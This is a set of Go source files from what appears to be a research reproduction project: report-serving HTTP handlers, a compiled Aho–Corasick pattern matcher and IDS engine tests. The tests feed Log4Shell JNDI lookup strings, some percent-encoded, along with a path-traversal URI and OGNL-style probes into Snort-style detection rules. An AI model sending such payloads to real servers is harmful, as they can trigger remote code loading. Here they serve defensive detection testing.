func (e errNotFound) Error() string { return e.msg }

func marshalTimeline(tl *lifecycle.Timeline) ([]byte, string, error) {
	out := struct {
		CVE        string            `json:"cve"`
		Impact     float64           `json:"impact"`
		EventCount int               `json:"event_count"`
		Events     map[string]string `json:"events"`
	}{CVE: "CVE-" + tl.CVE, Impact: tl.Impact, EventCount: tl.EventCount, Events: map[string]string{}}
	for _, e := range lifecycle.EventTypes() {
		if tl.Events[e].Known {
			out.Events[e.Letter()] = tl.Events[e].At.UTC().Format(time.RFC3339)
		}
	}
	body, err := json.Marshal(out)
	return body, "application/json", err
}

func (s *Server) handleTable(w http.ResponseWriter, r *http.Request) {
	n := r.PathValue("n")
	s.serveCached(w, r, "table/"+n, func(res *wayback.Results) ([]byte, string, error) {
		// Table 5 ranks raw event volumes, so a lazy as-of Results must load
		// its event set first; the others read aggregates already in hand.
		if n == "5" {
			if err := res.MaterializeEvents(); err != nil {
				return nil, "", err
			}
		}
		var text string
		switch n {
		case "1":
			text = res.Table1().String()
		case "2":
			text = res.Table2().String()
		case "3":
			text = res.Table3()
		case "4":
			text = res.Table4().String()
		case "5":
			text = res.Table5().String()
		case "6":
			text = res.Table6().String()
		case "E", "e":
			text = res.AppendixE().String()
		default:
			return nil, "", errNotFound{fmt.Sprintf("unknown table %q (1-6, E)", n)}
		}
		return []byte(text), "text/plain; charset=utf-8", nil
	})
}

// handleFigure serves the paper's figures as CSV, in the same shapes
// waybackctl's `all` command writes to disk.
func (s *Server) handleFigure(w http.ResponseWriter, r *http.Request) {
	id := r.PathValue("id")
	s.serveCached(w, r, "figure/"+id, func(res *wayback.Results) ([]byte, string, error) {
		n, err := strconv.Atoi(id)
		if err != nil {
			return nil, "", errNotFound{fmt.Sprintf("figure wants a number 1-18, got %q", id)}
		}
		// Figures are distributions over the raw events; force the lazy as-of
		// event set so a segment read error surfaces as a 500, not a panic.
		if err := res.MaterializeEvents(); err != nil {
			return nil, "", err
		}
		switch n {
		case 1:
			return histogramCSV("figure1", "days-into-study", res.Figure1())
		case 2:
			return seriesCSV(res.Figure2()...)
		case 3:
			return histogramCSV("figure3", "days-into-study", res.Figure3())
		case 4:
			return histogramCSV("figure4", "days-since-publication", res.Figure4())
		case 5:
			var series []report.Series
			for _, f := range res.Figure5() {
				series = append(series, report.FromECDF(f.Label, "days", f.CDF))
			}
			return seriesCSV(series...)
		case 6:
			f := res.Figure6()
			tab := report.Table{Title: "Figure 6", Headers: []string{"bin-start-days", "mitigated", "unmitigated"}}
			for i := range f.Mitigated {
				tab.AddRow(fmt.Sprintf("%g", f.BinStart(i)), f.Mitigated[i], f.Unmit[i])
			}
			return tableCSV(tab)
		case 7:
			f := res.Figure7()
			return seriesCSV(
				report.FromECDF("mitigated", "days", f.Mitigated),
				report.FromECDF("unmitigated", "days", f.Unmit))
		case 8:
			return seriesCSV(report.FromECDF("log4shell", "days", res.Figure8().CDF))
		case 9:
			var series []report.Series
			for _, g := range res.Figure9() {
				series = append(series, report.FromECDF("group "+g.Group, "days", g.CDF))
			}
			return seriesCSV(series...)
		case 10:
			return seriesCSV(res.Figure10())
		case 11:
			return seriesCSV(res.Figure11())
		case 12:
			return seriesCSV(report.FromECDF("confluence", "days", res.Figure12().CDF))
		case 13, 14, 15, 16, 17, 18:
			f := res.Figures13to18()[n-13]
			return seriesCSV(report.FromECDF(f.Label, "days", f.CDF))
		default:
			return nil, "", errNotFound{fmt.Sprintf("unknown figure %d", n)}
		}
	})
}

func histogramCSV(name, binLabel string, h *stats.Histogram) ([]byte, string, error) {
	tab := report.HistogramTable(name, binLabel, h, func(i int) string {
		return fmt.Sprintf("%g", h.BinStart(i))
	})
	return tableCSV(tab)
}

func tableCSV(tab report.Table) ([]byte, string, error) {
	var b bytes.Buffer
	if err := tab.WriteCSV(&b); err != nil {
		return nil, "", err
	}
	return b.Bytes(), "text/csv", nil
}

func seriesCSV(series ...report.Series) ([]byte, string, error) {
	var b bytes.Buffer
	if err := report.WriteSeriesCSV(&b, series...); err != nil {
		return nil, "", err
	}
	return b.Bytes(), "text/csv", nil
}
