package ids

// Compiled double-array Aho–Corasick automaton: the Talos-scale successor to
// the map-trie Matcher. The trie's transition function is flattened into two
// parallel int32 arrays (base/check), so following a byte is one add and one
// compare against contiguous memory instead of a map probe per node — the
// difference between cache lines and pointer soup at 48k patterns. The
// automaton is immutable once compiled, builds once per ruleset generation,
// and serializes to a flat little-endian form the registry caches on disk
// (the layout is position-independent, so a future loader can map it
// straight from the file).
//
// Matching semantics are byte-for-byte identical to Matcher.Scan — same
// case folding, same hit order, same dedup — which FuzzCompiledAutomaton
// enforces. The Scan hot path performs zero allocations given a reusable
// ScanScratch; that property is gated by BenchmarkAutomatonMatch48k's
// recorded allocs_per_op of 0.

import (
	"encoding/binary"
	"fmt"
)

// CompiledMatcher is an immutable double-array Aho–Corasick automaton.
type CompiledMatcher struct {
	// base/check encode transitions: from state s on lowered byte c, the
	// candidate cell is t = base[s]+c, taken when check[t] == s. A state's
	// base is daNoChildren when it has no outgoing edges.
	base  []int32
	check []int32
	// fail is the longest-proper-suffix state, dict the nearest fail-chain
	// ancestor with outputs (-1 when none) — exactly Matcher's links.
	fail []int32
	dict []int32
	// outStart/outCount slice outs per state: outs[outStart[s]:+outCount[s]]
	// are the pattern IDs terminating at s.
	outStart []int32
	outCount []int32
	outs     []int32

	numPatterns int32
}

const (
	daNoChildren = int32(-1) // base value for leaf states
	daFreeCell   = int32(-1) // check value for unoccupied cells
)

// ScanScratch is the reusable per-goroutine state a zero-allocation Scan
// needs: an epoch-stamped per-pattern mark array replacing Matcher.Scan's
// per-call map. The zero value is ready to use; a scratch grows to the
// largest pattern count it has seen and may be reused across automata.
type ScanScratch struct {
	mark  []uint32
	epoch uint32
}

func (s *ScanScratch) begin(n int) uint32 {
	if len(s.mark) < n {
		s.mark = make([]uint32, n)
	}
	s.epoch++
	if s.epoch == 0 {
		// uint32 wraparound: stale marks from 4 billion scans ago could
		// alias; clear once and restart the epoch sequence.
		for i := range s.mark {
			s.mark[i] = 0
		}
		s.epoch = 1
	}
	return s.epoch
}

// Compile builds the double-array automaton over patterns, matching
// case-insensitively like NewMatcher. It compiles through the map-trie
// Matcher, so links and output order cannot drift from the reference
// implementation.
func Compile(patterns [][]byte) *CompiledMatcher {
	return compileFrom(NewMatcher(patterns))
}

// compileFrom flattens a built Matcher into double-array form. State IDs are
// remapped to cell indices; the root is cell 0.
func compileFrom(m *Matcher) *CompiledMatcher {
	c := &CompiledMatcher{numPatterns: int32(len(m.patterns))}
	n := len(m.nodes)
	// cellOf maps Matcher node index -> double-array cell.
	cellOf := make([]int32, n)

	// Initial capacity: nodes plus slack for placement spread.
	cap0 := n + n/4 + 260
	c.grow(cap0)
	free := newFreeList(int32(len(c.check)))
	// Root occupies cell 0.
	free.take(0)
	c.check[0] = 0 // self-parented; never consulted (no fail into root cell lookups use check[t]==s with s>=0, and t==0 only for s==0,c==0 when base[0]==0 — base search avoids it via free list)
	cellOf[0] = 0

	// BFS in Matcher node order: Matcher appends nodes in insertion order and
	// built its links breadth-first, so parents always precede children; a
	// simple queue over node IDs preserves that.
	queue := make([]int32, 0, n)
	queue = append(queue, 0)
	bytesBuf := make([]byte, 0, 256)
	for len(queue) > 0 {
		node := queue[0]
		queue = queue[1:]
		cell := cellOf[node]
		kids := m.nodes[node].children
		if len(kids) == 0 {
			c.base[cell] = daNoChildren
			continue
		}
		// Deterministic placement: order edges by byte.
		bytesBuf = bytesBuf[:0]
		for b := range kids {
			bytesBuf = append(bytesBuf, b)
		}
		for i := 1; i < len(bytesBuf); i++ {
			for j := i; j > 0 && bytesBuf[j] < bytesBuf[j-1]; j-- {
				bytesBuf[j], bytesBuf[j-1] = bytesBuf[j-1], bytesBuf[j]
			}
		}
		base := c.place(free, bytesBuf)
		c.base[cell] = base
		for _, b := range bytesBuf {
			t := base + int32(b)
			child := kids[b]
			c.check[t] = cell
			cellOf[child] = t
			queue = append(queue, child)
		}
	}

	// Second pass: links and outputs, now that every node has its cell.
	for node := 0; node < n; node++ {
		cell := cellOf[node]
		c.fail[cell] = cellOf[m.nodes[node].fail]
		if dl := m.nodes[node].dictLink; dl >= 0 {
			c.dict[cell] = cellOf[dl]
		} else {
			c.dict[cell] = -1
		}
		if outs := m.nodes[node].outputs; len(outs) > 0 {
			c.outStart[cell] = int32(len(c.outs))
			c.outCount[cell] = int32(len(outs))
			c.outs = append(c.outs, outs...)
		}
	}
	c.shrink(free)
	return c
}

// grow extends every per-cell array to at least want cells, keeping new
// cells free.
func (c *CompiledMatcher) grow(want int) {
	old := len(c.check)
	if want <= old {
		return
	}
	next := old + old/2
	if next < want {
		next = want
	}
	extend := func(a []int32, fill int32) []int32 {
		out := make([]int32, next)
		copy(out, a)
		for i := old; i < next; i++ {
			out[i] = fill
		}
		return out
	}
	c.base = extend(c.base, daNoChildren)
	c.check = extend(c.check, daFreeCell)
	c.fail = extend(c.fail, 0)
	c.dict = extend(c.dict, -1)
	c.outStart = extend(c.outStart, 0)
	c.outCount = extend(c.outCount, 0)
}

// shrink trims the arrays to the highest occupied cell.
func (c *CompiledMatcher) shrink(f *freeList) {
	hi := 0
	for i := len(c.check) - 1; i >= 0; i-- {
		if c.check[i] != daFreeCell {
			hi = i
			break
		}
	}
	n := hi + 1
	c.base = c.base[:n:n]
	c.check = c.check[:n:n]
	c.fail = c.fail[:n:n]
	c.dict = c.dict[:n:n]
	c.outStart = c.outStart[:n:n]
	c.outCount = c.outCount[:n:n]
}

// freeList is a doubly-linked list over unoccupied cells, giving the
// first-fit base search amortized near-constant steps per placement instead
// of rescanning the dense prefix.
type freeList struct {
	// Slot i+1 represents cell i; slot 0 is the head sentinel. next[i] = -1
	// terminates the list; a taken slot self-loops.
	next []int32
	prev []int32
	tail int32 // slot index of the last free slot (0 = list empty)
}

func newFreeList(cells int32) *freeList {
	f := &freeList{next: make([]int32, cells+1), prev: make([]int32, cells+1)}
	for i := int32(0); i <= cells; i++ {
		f.next[i] = i + 1
		f.prev[i] = i - 1
	}
	f.next[cells] = -1
	f.tail = cells
	return f
}

// growTo extends the list to cover cells [old, cells), all free.
func (f *freeList) growTo(cells int32) {
	old := int32(len(f.next)) - 1 // previously covered cell count
	if cells <= old {
		return
	}
	next := make([]int32, cells+1)
	prev := make([]int32, cells+1)
	copy(next, f.next)
	copy(prev, f.prev)
	f.next, f.prev = next, prev
	f.next[f.tail] = old + 1
	for i := old + 1; i <= cells; i++ {
		f.next[i] = i + 1
		f.prev[i] = i - 1
	}
	f.prev[old+1] = f.tail
	f.next[cells] = -1
	f.tail = cells
}

// first returns the first free cell, or -1.
func (f *freeList) first() int32 { return f.next[0] - 1 }

// after returns the next free cell after the free cell `cell`, or -1.
func (f *freeList) after(cell int32) int32 {
	n := f.next[cell+1]
	if n < 0 {
		return -1
	}
	return n - 1
}

// take removes cell from the list.
func (f *freeList) take(cell int32) {
	i := cell + 1
	p, n := f.prev[i], f.next[i]
	f.next[p] = n
	if n >= 0 {
		f.prev[n] = p
	}
	if f.tail == i {
		f.tail = p
	}
	f.next[i] = i // self-loop marks taken
	f.prev[i] = i
}

// free reports whether cell is unoccupied.
func (f *freeList) free(cell int32) bool {
	i := cell + 1
	return f.next[i] != i
}

// place finds a base such that every child cell base+c is free, occupying
// nothing itself (the caller marks the child cells via check). bytes must be
// sorted ascending and non-empty.
func (c *CompiledMatcher) place(f *freeList, bytes []byte) int32 {
	c0 := int32(bytes[0])
	for cand := f.first(); ; cand = f.after(cand) {
		if cand < 0 || int(cand)+255 >= len(c.check) {
			// Out of room: extend the arrays (and the free list) and keep
			// searching from the new space.
			want := len(c.check) + len(c.check)/2 + 512
			c.grow(want)
			f.growTo(int32(len(c.check)))
			if cand < 0 {
				cand = f.first()
			}
		}
		base := cand - c0
		if base < 0 {
			continue
		}
		ok := true
		for _, b := range bytes {
			if !f.free(base + int32(b)) {
				ok = false
				break
			}
		}
		if !ok {
			continue
		}
		for _, b := range bytes {
			f.take(base + int32(b))
		}
		return base
	}
}

// NumPatterns returns the number of patterns in the automaton.
func (c *CompiledMatcher) NumPatterns() int { return int(c.numPatterns) }

// States returns the number of double-array cells — the automaton's
// footprint metric (each cell is six int32s).
func (c *CompiledMatcher) States() int { return len(c.check) }

// Scan reports the set of pattern IDs occurring in text, case-insensitively,
// through hit — exactly once per distinct pattern, in the same order
// Matcher.Scan reports them. scratch must not be shared between concurrent
// Scans; passing the same scratch to successive calls makes Scan
// allocation-free.
func (c *CompiledMatcher) Scan(text []byte, scratch *ScanScratch, hit func(id int32)) {
	if c.numPatterns == 0 {
		return
	}
	epoch := scratch.begin(int(c.numPatterns))
	mark := scratch.mark
	s := int32(0)
	for _, b := range text {
		if b >= 'A' && b <= 'Z' {
			b += 'a' - 'A'
		}
		bc := int32(b)
		for {
			if base := c.base[s]; base >= 0 {
				t := base + bc
				if int(t) < len(c.check) && c.check[t] == s {
					s = t
					break
				}
			}
			if s == 0 {
				break
			}
			s = c.fail[s]
		}
		for n := s; n != -1; {
			start, cnt := c.outStart[n], c.outCount[n]
			for _, id := range c.outs[start : start+cnt] {
				if mark[id] != epoch {
					mark[id] = epoch
					hit(id)
				}
			}
			n = c.dict[n]
		}
	}
}

// Contains reports whether any pattern occurs in text.
func (c *CompiledMatcher) Contains(text []byte) bool {
	var scratch ScanScratch
	found := false
	c.Scan(text, &scratch, func(int32) { found = true })
	return found
}

// Serialized form: a fixed header then the six per-cell arrays and the
// output list as contiguous little-endian int32s. Every array lands at a
// 4-byte-aligned offset computable from the header alone — the
// mmap-friendliness the registry's on-disk automaton cache relies on.
const (
	compiledMagic   = "WBDAAC01"
	compiledHdrSize = 8 + 4 + 4 + 4 // magic, numPatterns, cells, outs
)

// AppendBinary appends the serialized automaton to buf.
func (c *CompiledMatcher) AppendBinary(buf []byte) []byte {
	buf = append(buf, compiledMagic...)
	buf = binary.LittleEndian.AppendUint32(buf, uint32(c.numPatterns))
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(c.check)))
	buf = binary.LittleEndian.AppendUint32(buf, uint32(len(c.outs)))
	for _, arr := range [][]int32{c.base, c.check, c.fail, c.dict, c.outStart, c.outCount, c.outs} {
		for _, v := range arr {
			buf = binary.LittleEndian.AppendUint32(buf, uint32(v))
		}
	}
	return buf
}

// LoadCompiledMatcher deserializes an AppendBinary encoding, validating
// every index so a corrupt or hostile cache file fails loudly instead of
// panicking at scan time.
func LoadCompiledMatcher(raw []byte) (*CompiledMatcher, error) {
	if len(raw) < compiledHdrSize || string(raw[:8]) != compiledMagic {
		return nil, fmt.Errorf("ids: not a compiled automaton (bad header)")
	}
	numPat := int32(binary.LittleEndian.Uint32(raw[8:12]))
	cells := int(binary.LittleEndian.Uint32(raw[12:16]))
	nOuts := int(binary.LittleEndian.Uint32(raw[16:20]))
	if numPat < 0 || cells <= 0 || nOuts < 0 {
		return nil, fmt.Errorf("ids: compiled automaton header out of range")
	}
	want := compiledHdrSize + 4*(6*cells+nOuts)
	if len(raw) != want {
		return nil, fmt.Errorf("ids: compiled automaton is %d bytes, header implies %d", len(raw), want)
	}
	read := func(off, n int) []int32 {
		out := make([]int32, n)
		for i := 0; i < n; i++ {
			out[i] = int32(binary.LittleEndian.Uint32(raw[off+4*i:]))
		}
		return out
	}
	off := compiledHdrSize
	c := &CompiledMatcher{numPatterns: numPat}
	c.base = read(off, cells)
	off += 4 * cells
	c.check = read(off, cells)
	off += 4 * cells
	c.fail = read(off, cells)
	off += 4 * cells
	c.dict = read(off, cells)
	off += 4 * cells
	c.outStart = read(off, cells)
	off += 4 * cells
	c.outCount = read(off, cells)
	off += 4 * cells
	c.outs = read(off, nOuts)

	// Validate: every stored index must stay in bounds, so Scan can run
	// without per-step checks.
	nc := int32(cells)
	for i := 0; i < cells; i++ {
		if f := c.fail[i]; f < 0 || f >= nc {
			return nil, fmt.Errorf("ids: compiled automaton fail[%d]=%d out of range", i, f)
		}
		if d := c.dict[i]; d < -1 || d >= nc {
			return nil, fmt.Errorf("ids: compiled automaton dict[%d]=%d out of range", i, d)
		}
		cnt := c.outCount[i]
		start := c.outStart[i]
		if cnt < 0 || start < 0 || int(start)+int(cnt) > nOuts {
			return nil, fmt.Errorf("ids: compiled automaton outputs[%d] out of range", i)
		}
	}
	for _, id := range c.outs {
		if id < 0 || id >= numPat {
			return nil, fmt.Errorf("ids: compiled automaton pattern id %d out of range", id)
		}
	}
	return c, nil
}
