package ids

import (
	"testing"
	"testing/quick"
)

func TestNormalizeURI(t *testing.T) {
	cases := []struct{ in, want string }{
		{"/plain/path", "/plain/path"},
		{"/%24%7Bjndi%3Aldap%7D", "/${jndi:ldap}"},
		{"/a//b/./c", "/a/b/c"},
		{`/a\b\c`, "/a/b/c"},
		{"/a%2Fb", "/a/b"},
		{"/bad%zzescape", "/bad%zzescape"}, // invalid escape preserved
		{"/p%4", "/p%4"},                   // truncated escape preserved
		{"/q?x=%41+%42", "/q?x=A B"},       // query decoded, '+' is space
		{"/cgi-bin/.%2e/.%2e/etc", "/cgi-bin/../../etc"},
		{"", ""},
	}
	for _, c := range cases {
		if got := NormalizeURI(c.in); got != c.want {
			t.Errorf("NormalizeURI(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// Property: normalization is idempotent on its own output for inputs free
// of double encoding... it is NOT generally idempotent (decoding can expose
// new escapes), so assert the weaker invariant: a second pass never panics
// and never grows the string.
func TestNormalizeURIProperty(t *testing.T) {
	f := func(s string) bool {
		once := NormalizeURI(s)
		twice := NormalizeURI(once)
		return len(twice) <= len(once) && len(once) <= len(s)+1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

// The motivating case: a percent-encoded JNDI lookup in the URI must not
// evade an http_uri signature (Snort matches the normalized target).
func TestEngineCatchesEncodedURIEvasion(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"jndi-uri"; content:"${jndi:"; nocase; http_uri; sid:60;)`)
	// Plain form matches...
	if len(e.Match(httpSession("GET /?x=${jndi:ldap://e/a} HTTP/1.1\r\nHost: h\r\n\r\n", 80))) != 1 {
		t.Fatal("plain URI form missed")
	}
	// ...and so does the percent-encoded evasion.
	encoded := "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2Fe%2Fa%7D HTTP/1.1\r\nHost: h\r\n\r\n"
	if len(e.Match(httpSession(encoded, 80))) != 1 {
		t.Error("percent-encoded URI evaded the http_uri signature")
	}
	// Other buffers are unaffected: the encoded token in a header is not
	// normalized (headers are not URI-normalized by the engine).
	hdr := "GET / HTTP/1.1\r\nX-Api: %24%7Bjndi%3A%7D\r\n\r\n"
	if len(e.Match(httpSession(hdr, 80))) != 0 {
		t.Error("header content treated as URI")
	}
}

// Positional modifiers stay coherent within the normalized pass.
func TestEngineNormalizedPositional(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"pos"; content:"/admin"; http_uri; offset:0; depth:6; sid:61;)`)
	if len(e.Match(httpSession("GET /%61dmin/panel HTTP/1.1\r\nHost: h\r\n\r\n", 80))) != 1 {
		t.Error("depth-anchored match failed on normalized URI")
	}
	if len(e.Match(httpSession("GET /x/%61dmin HTTP/1.1\r\nHost: h\r\n\r\n", 80))) != 0 {
		t.Error("depth constraint ignored on normalized URI")
	}
}

// http_raw_uri inspects raw bytes only: encoding evades it by design.
func TestHTTPRawURIBuffer(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"raw only"; content:"%24%7B"; http_raw_uri; sid:63;)`)
	if len(e.Match(httpSession("GET /%24%7Bx%7D HTTP/1.1\r\nHost: h\r\n\r\n", 80))) != 1 {
		t.Error("raw encoded match failed")
	}
	// The decoded form does not contain the encoded pattern.
	if len(e.Match(httpSession("GET /${x} HTTP/1.1\r\nHost: h\r\n\r\n", 80))) != 0 {
		t.Error("http_raw_uri matched decoded text")
	}
}
