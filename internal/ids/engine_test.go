package ids

import (
	"strconv"
	"strings"
	"testing"
	"time"

	"repro/internal/packet"
	"repro/internal/rules"
	"repro/internal/tcpasm"
)

func mustRule(t *testing.T, text string) *rules.Rule {
	t.Helper()
	r, err := rules.Parse(text)
	if err != nil {
		t.Fatalf("Parse(%q): %v", text, err)
	}
	return r
}

func httpSession(clientData string, dstPort uint16) *tcpasm.Session {
	return &tcpasm.Session{
		Client:     packet.Endpoint{Addr: packet.MustAddr("203.0.113.7"), Port: 45123},
		Server:     packet.Endpoint{Addr: packet.MustAddr("10.0.0.5"), Port: dstPort},
		Start:      time.Date(2021, 12, 10, 13, 0, 0, 0, time.UTC),
		End:        time.Date(2021, 12, 10, 13, 0, 1, 0, time.UTC),
		ClientData: []byte(clientData),
		Complete:   true,
		Closed:     true,
	}
}

func engineFor(t *testing.T, cfg Config, ruleTexts ...string) *Engine {
	t.Helper()
	var rs []rules.DatedRule
	for i, text := range ruleTexts {
		rs = append(rs, rules.DatedRule{
			Rule:      mustRule(t, text),
			Published: time.Date(2021, 12, 10+i, 0, 0, 0, 0, time.UTC),
		})
	}
	return NewEngine(rs, cfg)
}

func TestEngineBasicContentMatch(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"jndi"; content:"${jndi:"; nocase; sid:58722;)`)
	s := httpSession("GET /?q=${JNDI:ldap://e/a} HTTP/1.1\r\nHost: h\r\n\r\n", 8080)
	ms := e.Match(s)
	if len(ms) != 1 || ms[0].SID != 58722 {
		t.Fatalf("Match = %v", ms)
	}
}

func TestEngineHTTPURIBuffer(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"uri"; content:"${jndi:"; http_uri; sid:1;)`)
	// Pattern in URI: matches.
	if ms := e.Match(httpSession("GET /?q=${jndi:x} HTTP/1.1\r\nHost: h\r\n\r\n", 80)); len(ms) != 1 {
		t.Error("URI match failed")
	}
	// Pattern only in header: must not match an http_uri rule.
	if ms := e.Match(httpSession("GET / HTTP/1.1\r\nX-Api: ${jndi:x}\r\n\r\n", 80)); len(ms) != 0 {
		t.Error("http_uri rule matched header content")
	}
}

func TestEngineHTTPHeaderBuffer(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"hdr"; content:"${jndi:"; http_header; sid:2;)`)
	if ms := e.Match(httpSession("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://e}\r\n\r\n", 80)); len(ms) != 1 {
		t.Error("header match failed")
	}
	if ms := e.Match(httpSession("GET /?${jndi:x} HTTP/1.1\r\nHost: h\r\n\r\n", 80)); len(ms) != 0 {
		t.Error("http_header rule matched URI content")
	}
}

func TestEngineCookieAndMethodBuffers(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"cookie"; content:"${jndi:"; http_cookie; sid:300057;)`,
		`alert tcp any any -> any any (msg:"method"; content:"${jndi:"; http_method; sid:59246;)`)
	ms := e.Match(httpSession("GET / HTTP/1.1\r\nCookie: x=${jndi:ldap://e}\r\n\r\n", 80))
	if len(ms) != 1 || ms[0].SID != 300057 {
		t.Fatalf("cookie match = %v", ms)
	}
	ms = e.Match(httpSession("${jndi:ldap://e/x} / HTTP/1.1\r\nHost: h\r\n\r\n", 80))
	if len(ms) != 1 || ms[0].SID != 59246 {
		t.Fatalf("method match = %v", ms)
	}
}

func TestEngineBodyBuffer(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"body"; content:"${jndi:"; http_client_body; sid:58727;)`)
	body := "q=${jndi:ldap://e/a}"
	raw := "POST /api HTTP/1.1\r\nContent-Length: " + strconv.Itoa(len(body)) + "\r\n\r\n" + body
	if ms := e.Match(httpSession(raw, 80)); len(ms) != 1 {
		t.Error("body match failed")
	}
}

func TestEnginePortConstraints(t *testing.T) {
	rule := `alert tcp any any -> any 8090 (msg:"confluence"; content:"${"; sid:59934;)`
	strict := engineFor(t, Config{}, rule)
	loose := engineFor(t, Config{PortInsensitive: true}, rule)

	onPort := httpSession("GET /${(x)} HTTP/1.1\r\nHost: h\r\n\r\n", 8090)
	offPort := httpSession("GET /${(x)} HTTP/1.1\r\nHost: h\r\n\r\n", 8443)

	if len(strict.Match(onPort)) != 1 {
		t.Error("strict engine missed on-port exploit")
	}
	if len(strict.Match(offPort)) != 0 {
		t.Error("strict engine matched off-port exploit")
	}
	if len(loose.Match(offPort)) != 1 {
		t.Error("port-insensitive engine missed off-port exploit")
	}
}

func TestEngineEarliestPublished(t *testing.T) {
	// Both rules match; the earliest-published one must win even though it
	// has the higher SID and appears second.
	var rs []rules.DatedRule
	rs = append(rs, rules.DatedRule{
		Rule:      mustRule(t, `alert tcp any any -> any any (msg:"later"; content:"${jndi:"; sid:100;)`),
		Published: time.Date(2022, 1, 15, 0, 0, 0, 0, time.UTC),
	})
	rs = append(rs, rules.DatedRule{
		Rule:      mustRule(t, `alert tcp any any -> any any (msg:"earlier"; content:"jndi"; sid:200;)`),
		Published: time.Date(2021, 12, 11, 0, 0, 0, 0, time.UTC),
	})
	e := NewEngine(rs, Config{})
	m, ok := e.Earliest(httpSession("GET /?${jndi:x} HTTP/1.1\r\nHost: h\r\n\r\n", 80))
	if !ok {
		t.Fatal("no match")
	}
	if m.SID != 200 {
		t.Errorf("Earliest SID = %d, want 200", m.SID)
	}
}

func TestEngineNegatedContent(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"neg"; content:"/api/"; content:!"healthcheck"; sid:5;)`)
	if len(e.Match(httpSession("GET /api/users HTTP/1.1\r\n\r\n", 80))) != 1 {
		t.Error("clean request did not match")
	}
	if len(e.Match(httpSession("GET /api/healthcheck HTTP/1.1\r\n\r\n", 80))) != 0 {
		t.Error("negated content did not suppress match")
	}
}

func TestEnginePositionalModifiers(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"pos"; content:"GET"; depth:3; content:"/admin"; distance:1; within:10; sid:6;)`)
	if len(e.Match(httpSession("GET /admin HTTP/1.1\r\n\r\n", 80))) != 1 {
		t.Error("positional match failed")
	}
	// /admin too far away (distance 1, within 10 from end of GET).
	if len(e.Match(httpSession("GET /x/y/z/q/r/s/admin HTTP/1.1\r\n\r\n", 80))) != 0 {
		t.Error("within constraint not enforced")
	}
	// GET not at start.
	if len(e.Match(httpSession("xxGET /admin HTTP/1.1\r\n\r\n", 80))) != 0 {
		t.Error("depth constraint not enforced")
	}
}

func TestEnginePCRE(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"ognl"; pcre:"/%24%7B|\$\{/U"; sid:7;)`)
	if len(e.Match(httpSession("GET /%24%7B(exec)%7D HTTP/1.1\r\nHost: h\r\n\r\n", 80))) != 1 {
		t.Error("pcre URI match failed")
	}
	if len(e.Match(httpSession("GET /plain HTTP/1.1\r\nHost: h\r\n\r\n", 80))) != 0 {
		t.Error("pcre false positive")
	}
}

func TestEngineEstablishedRequiresHandshake(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"est"; flow:to_server,established; content:"attack"; sid:8;)`)
	s := httpSession("attack bytes", 80)
	s.Complete = false
	if len(e.Match(s)) != 0 {
		t.Error("established rule matched incomplete session")
	}
	s.Complete = true
	if len(e.Match(s)) != 1 {
		t.Error("established rule missed complete session")
	}
}

func TestEngineRawBufferNonHTTP(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp any any -> any any (msg:"smtp"; content:"MAIL FROM"; nocase; sid:58751;)`)
	s := httpSession("EHLO x\r\nmail from: <${jndi:ldap://e}>\r\n", 25)
	if len(e.Match(s)) != 1 {
		t.Error("raw buffer match on SMTP traffic failed")
	}
}

func TestEnginePrefilterEquivalence(t *testing.T) {
	ruleTexts := []string{
		`alert tcp any any -> any any (msg:"a"; content:"${jndi:"; nocase; sid:1;)`,
		`alert tcp any any -> any any (msg:"b"; content:"webLanguage"; sid:2;)`,
		`alert tcp any any -> any any (msg:"c"; pcre:"/\$\{(lower|upper):/"; sid:3;)`,
		`alert tcp any any -> any 8090 (msg:"d"; content:"${"; http_uri; sid:4;)`,
	}
	fast := engineFor(t, Config{}, ruleTexts...)
	slow := engineFor(t, Config{DisablePrefilter: true}, ruleTexts...)
	sessions := []*tcpasm.Session{
		httpSession("GET /?q=${jndi:ldap} HTTP/1.1\r\nHost: h\r\n\r\n", 80),
		httpSession("GET /${lower:j}ndi HTTP/1.1\r\nHost: h\r\n\r\n", 80),
		httpSession("PUT /SDK/webLanguage HTTP/1.1\r\nHost: h\r\n\r\n", 80),
		httpSession("GET /${(x)} HTTP/1.1\r\nHost: h\r\n\r\n", 8090),
		httpSession("GET /benign HTTP/1.1\r\nHost: h\r\n\r\n", 80),
		httpSession("\x01\x02 binary", 443),
	}
	for i, s := range sessions {
		mf := fast.Match(s)
		msl := slow.Match(s)
		if len(mf) != len(msl) {
			t.Fatalf("session %d: prefilter %d matches, full scan %d", i, len(mf), len(msl))
		}
		for j := range mf {
			if mf[j].SID != msl[j].SID {
				t.Fatalf("session %d match %d: SID %d vs %d", i, j, mf[j].SID, msl[j].SID)
			}
		}
	}
}

func TestEngineAddrEnv(t *testing.T) {
	e := engineFor(t, Config{},
		`alert tcp !203.0.113.0/24 any -> any any (msg:"notfromscanner"; content:"x"; sid:9;)`)
	s := httpSession("x", 80) // client is 203.0.113.7
	if len(e.Match(s)) != 0 {
		t.Error("negated source network matched excluded client")
	}
}

func TestEngineNoContentRule(t *testing.T) {
	// Header-only rules are always candidates (no fast pattern).
	e := engineFor(t, Config{},
		`alert tcp any any -> any 23 (msg:"telnet probe"; sid:10;)`)
	if len(e.Match(httpSession("login: admin", 23))) != 1 {
		t.Error("header-only rule missed")
	}
